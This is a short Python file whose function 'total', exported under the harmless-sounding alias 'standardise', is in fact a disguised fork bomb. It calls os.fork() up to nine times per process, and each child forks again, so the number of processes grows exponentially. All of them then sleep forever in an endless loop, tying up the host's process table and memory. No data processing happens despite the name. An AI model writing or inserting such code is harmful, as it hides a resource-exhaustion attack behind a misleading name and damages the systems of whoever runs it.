import mmap
import os
import time

counter = mmap.mmap(-1, 300)


def total(x):
    for _ in range(9):
        number = counter.read(1) and counter.tell()
        if not number or number >= 299:
            break
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    while True:
        time.sleep(1)


standardise = total
